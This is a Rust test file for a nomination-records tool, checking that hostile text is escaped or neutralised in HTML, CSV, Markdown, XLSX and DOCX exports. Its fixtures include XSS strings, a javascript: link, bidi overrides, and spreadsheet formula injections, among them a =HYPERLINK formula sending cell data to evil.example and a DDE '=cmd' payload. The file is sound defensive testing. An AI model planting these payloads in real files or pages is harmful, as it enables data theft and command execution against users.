//! Record text is data, never markup: hostile text in a nomination is escaped in
//! every export format (HTML-escaped, CSV-quoted, Markdown-escaped with control
//! characters neutralised), through the library API the TUI uses.

use std::collections::BTreeMap;

use chrono::NaiveDate;
use pingxuan::export::{render, Format, Options, What};
use pingxuan::i18n::Lang;
use pingxuan::model::{
    Contact, Decision, Metrics, Nomination, Nominee, NomineeKind, Notice, Outcome, Record, Rulings,
    Snapshot,
};
use scraper::{Html, Selector};

const NASTY: &str = "A|B <script>alert(1)</script> <b>x</b> *y* `z`, \"q\"\x1b[2J\nnext";

fn snapshot() -> Snapshot {
    let sample = pingxuan::demo::sample().unwrap();
    let unit = sample.units[0].id.clone();
    let day = NaiveDate::from_ymd_opt(2017, 11, 20).unwrap();
    let n = Nomination {
        id: "2017-star-099".into(),
        category: "star".into(),
        unit,
        nominee: Nominee {
            kind: NomineeKind::Person,
            name: NASTY.into(),
            workplace: Some("<i>w</i>".into()),
            post: None,
            front_line: true,
            gender: None,
            born: None,
            political_status: None,
            education: None,
        },
        brand: None,
        registered: day,
        contact: Contact {
            name: "c".into(),
            phone: "1|2".into(),
        },
        deeds: NASTY.into(),
        metrics: Metrics::default(),
        honours: vec![],
        media: vec![],
        activities: vec![],
        supervisors: vec![],
        evidence: vec![],
        form_filed: None,
    };
    let mut record = Record::new(n);
    record.decision = Some(Decision {
        outcome: Outcome::Candidate,
        reason: String::new(),
        fraud: false,
        by: "liguohua".into(),
        date: day,
        reopened: None,
    });
    let mut records = BTreeMap::new();
    records.insert("2017-star-099".to_string(), record);
    Snapshot {
        commit: Some("0123456789abcdef0123456789abcdef01234567".into()),
        campaign: sample.campaign,
        members: sample.members,
        units: sample.units,
        rulings: Rulings {
            notices: vec![Notice {
                category: "star".into(),
                candidates: vec!["2017-star-099".into()],
                published: NaiveDate::from_ymd_opt(2017, 12, 4).unwrap(),
                by: "liguohua".into(),
            }],
            ..Rulings::default()
        },
        records: records.into(),
        problems: vec![],
        index: Default::default(),
    }
}

fn opts() -> Options {
    Options::new(NaiveDate::from_ymd_opt(2017, 12, 31).unwrap(), Lang::En).category("star")
}

#[test]
fn html_escapes_record_text() {
    let s = snapshot();
    for what in [
        What::Notice,
        What::Form {
            id: "2017-star-099",
        },
    ] {
        let out = String::from_utf8(render(&s, &what, Format::Html, &opts()).unwrap()).unwrap();
        let doc = Html::parse_document(&out);
        assert!(doc.errors.is_empty(), "{:?}", doc.errors);
        for tag in ["script", "b", "i"] {
            assert!(
                doc.select(&Selector::parse(tag).unwrap()).next().is_none(),
                "no <{tag}> from record text"
            );
        }
        let text: String = doc.root_element().text().collect();
        assert!(
            text.contains("A|B <script>alert(1)</script> <b>x</b>"),
            "shown as text"
        );
        assert!(!out.contains('\x1b'), "control characters neutralised");
    }
}

#[test]
fn csv_quotes_record_text_and_round_trips() {
    let s = snapshot();
    let out = render(&s, &What::Notice, Format::Csv, &opts()).unwrap();
    assert!(out.starts_with(b"\xEF\xBB\xBF"));
    let mut r = csv::Reader::from_reader(&out[3..]);
    let h = r.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    let nominee = h.iter().position(|x| x == "Nominee").unwrap();
    assert!(
        rows[0][nominee].starts_with(NASTY),
        "{:?}",
        &rows[0][nominee]
    );
    assert_eq!(rows[0].len(), h.len());
}

#[test]
fn markdown_escapes_pipes_and_neutralises_control_characters() {
    let s = snapshot();
    let out =
        String::from_utf8(render(&s, &What::Notice, Format::Markdown, &opts()).unwrap()).unwrap();
    assert!(!out.chars().any(|c| c.is_control() && c != '\n'), "{out:?}");
    let header = out.lines().find(|l| l.starts_with("| ")).unwrap();
    let row = out.lines().filter(|l| l.starts_with("| ")).nth(2).unwrap();
    let bars = |l: &str| {
        let b = l.as_bytes();
        (0..b.len())
            .filter(|&i| b[i] == b'|' && (i == 0 || b[i - 1] != b'\\'))
            .count()
    };
    assert_eq!(
        bars(row),
        bars(header),
        "record text cannot add a column: {row}"
    );
    assert!(
        row.contains("A\\|B") && row.contains("\\<script\\>"),
        "{row}"
    );
    let form = String::from_utf8(
        render(
            &s,
            &What::Form {
                id: "2017-star-099",
            },
            Format::Markdown,
            &opts(),
        )
        .unwrap(),
    )
    .unwrap();
    assert!(form.contains("1\\|2"));
}

// ---- issue 17: a hostile-text corpus through every document and format ----

/// Formula prefixes (the review's repro), HTML, Markdown and bidi overrides.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"點擊\")";
const CONTACT: &str = "@SUM(1+1)";
const DEEDS: &str = "-2+3 <img src=x onerror=alert(1)> | **bold** [x](javascript:alert(1)) \u{202e}txet desrever\u{202c} +1";
const BRAND: &str = "=2*3";

fn hostile() -> Snapshot {
    let mut s = snapshot();
    let r = s.records.get_mut("2017-star-099").unwrap();
    r.nomination.nominee.name = FORMULA.into();
    r.nomination.nominee.workplace = Some("+1+1".into());
    r.nomination.nominee.gender = Some("\tTAB".into());
    r.nomination.contact.name = CONTACT.into();
    r.nomination.contact.phone = "-洪緒鎮\r=1".into();
    r.nomination.deeds = DEEDS.into();
    r.nomination.brand = Some(BRAND.into());
    r.votes = Some(pingxuan::model::Votes {
        satisfied: 1,
        basically_satisfied: 0,
        dissatisfied: 0,
        recorded_by: "=cmd|' /C calc'!A0".into(),
        date: NaiveDate::from_ymd_opt(2017, 11, 21).unwrap(),
    });
    r.objections.insert(
        "20171205-1".into(),
        pingxuan::model::Objection {
            filed: chrono::DateTime::parse_from_rfc3339("2017-12-05T09:00:00+08:00").unwrap(),
            source: "@letter".into(),
            text: DEEDS.into(),
            fraud: false,
            recorded_by: "liuyang".into(),
            status: pingxuan::model::ObjectionStatus::Open,
            resolution: None,
        },
    );
    s
}

fn hostile_log() -> pingxuan::export::AuditLog {
    pingxuan::export::AuditLog {
        verified: true,
        rows: vec![pingxuan::export::AuditRow {
            commit: "0123456789abcdef0123456789abcdef01234567".into(),
            time: chrono::DateTime::parse_from_rfc3339("2017-06-15T09:00:00+08:00").unwrap(),
            actor: "=evil".into(),
            action: "+x".into(),
            record: Some("2017-star-099".into()),
            summary: DEEDS.into(),
            signature: "@bad".into(),
            signature_ok: false,
            violations: vec![FORMULA.into()],
        }],
    }
}

#[test]
fn hostile_text_goes_through_every_document_and_format_as_text() {
    use pingxuan::export::Kind;
    let s = hostile();
    let log = hostile_log();
    let opts = Options::new(NaiveDate::from_ymd_opt(2017, 12, 31).unwrap(), Lang::Zh);
    for kind in Kind::ALL {
        let what = match kind {
            Kind::Notice => What::Notice,
            Kind::Decision => What::Decision,
            Kind::Final => What::Final,
            Kind::Form => What::Form {
                id: "2017-star-099",
            },
            Kind::Registration => What::Registration,
            Kind::ScoreSheet => What::ScoreSheet,
            Kind::Ballot => What::Ballot,
            Kind::Votes => What::Votes,
            Kind::Letter => What::Letter,
            Kind::Opinions => What::Opinions,
            Kind::Objections => What::Objections,
            Kind::Scores => What::Scores,
            Kind::Audit => What::Audit(&log),
            Kind::Json => What::Json,
        };
        for &format in kind.formats() {
            let out = render(&s, &what, format, &opts)
                .unwrap_or_else(|e| panic!("{} {format:?}: {e}", kind.name()));
            let what_s = format!("{} as {format:?}", kind.name());
            match format {
                Format::Csv => {
                    let mut r = csv::ReaderBuilder::new()
                        .has_headers(false)
                        .from_reader(&out[3..]);
                    for rec in r.records() {
                        for cell in rec.unwrap().iter() {
                            let first = cell.chars().next();
                            assert!(
                                !(matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                                    || first == Some('-') && cell.parse::<f64>().is_err()),
                                "{what_s}: formula-like cell {cell:?}"
                            );
                            assert!(!cell.contains('\u{202e}'), "{what_s}: bidi override");
                        }
                    }
                }
                Format::Xlsx => {
                    use calamine::Reader;
                    let mut wb: calamine::Xlsx<_> =
                        calamine::Xlsx::new(std::io::Cursor::new(out.clone())).unwrap();
                    for name in wb.sheet_names().to_vec() {
                        let f = wb.worksheet_formula(&name).unwrap();
                        assert!(f.used_cells().all(|(_, _, f)| f.is_empty()), "{what_s}");
                        let range = wb.worksheet_range(&name).unwrap();
                        for (_, _, c) in range.used_cells() {
                            if let calamine::Data::String(t) = c {
                                assert!(!t.contains('\u{202e}'), "{what_s}: bidi override");
                            }
                        }
                        // the hostile text is there, as a string
                        let _ = range;
                    }
                }
                Format::Docx => {
                    use std::io::Read;
                    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(out.clone())).unwrap();
                    let mut xml = String::new();
                    zip.by_name("word/document.xml")
                        .unwrap()
                        .read_to_string(&mut xml)
                        .unwrap();
                    let doc = roxmltree::Document::parse(&xml)
                        .unwrap_or_else(|e| panic!("{what_s}: {e}"));
                    let text: String = doc
                        .descendants()
                        .filter(|n| n.tag_name().name() == "t")
                        .filter_map(|n| n.text())
                        .collect();
                    assert!(!text.contains('\u{202e}'), "{what_s}: bidi override");
                    assert!(!xml.contains("<img"), "{what_s}: markup escaped");
                }
                Format::Html => {
                    let page = String::from_utf8(out).unwrap();
                    let doc = Html::parse_document(&page);
                    assert!(doc.errors.is_empty(), "{what_s}: {:?}", doc.errors);
                    for tag in ["script", "img", "b", "a"] {
                        assert!(
                            doc.select(&Selector::parse(tag).unwrap()).next().is_none(),
                            "{what_s}: no <{tag}> from record text"
                        );
                    }
                    assert!(!page.contains('\u{202e}'), "{what_s}: bidi override");
                }
                Format::Markdown => {
                    let md = String::from_utf8(out).unwrap();
                    // markup characters from records come backslash-escaped
                    let bare = |pat: &str| {
                        md.match_indices(pat)
                            .any(|(i, _)| i == 0 || md.as_bytes()[i - 1] != b'\\')
                    };
                    assert!(!bare("<img"), "{what_s}: {md}");
                    assert!(!bare("](javascript"), "{what_s}");
                    assert!(!bare("**bold"), "{what_s}");
                    assert!(!md.contains('\u{202e}'), "{what_s}: bidi override");
                }
                Format::Json => {
                    serde_json::from_slice::<serde_json::Value>(&out)
                        .unwrap_or_else(|e| panic!("{what_s}: {e}"));
                }
            }
        }
    }
}

#[test]
fn the_reviews_formula_repro_is_neutralised_in_csv_and_a_string_in_xlsx() {
    // the review's blocker B1: =HYPERLINK, @SUM, -…, =2*3 written verbatim before
    let s = hostile();
    let opts = Options::new(NaiveDate::from_ymd_opt(2017, 12, 31).unwrap(), Lang::Zh);
    let csv_out = render(
        &s,
        &What::Form {
            id: "2017-star-099",
        },
        Format::Csv,
        &opts,
    )
    .unwrap();
    let text = String::from_utf8(csv_out[3..].to_vec()).unwrap();
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://evil.example/"),
        "{text}"
    );
    assert!(text.contains("'@SUM(1+1)"), "{text}");
    assert!(text.contains("'-洪緒鎮"), "{text}");
    assert!(text.contains("\r\n"), "CRLF");
    let x = render(&s, &What::Notice, Format::Xlsx, &opts).unwrap();
    use calamine::Reader;
    let mut wb: calamine::Xlsx<_> = calamine::Xlsx::new(std::io::Cursor::new(x)).unwrap();
    let name = wb.sheet_names()[0].clone();
    let range = wb.worksheet_range(&name).unwrap();
    assert!(range
        .used_cells()
        .any(|(_, _, c)| matches!(c, calamine::Data::String(t) if t.starts_with(FORMULA))));
    assert!(range
        .used_cells()
        .any(|(_, _, c)| *c == calamine::Data::String(BRAND.into())));
}
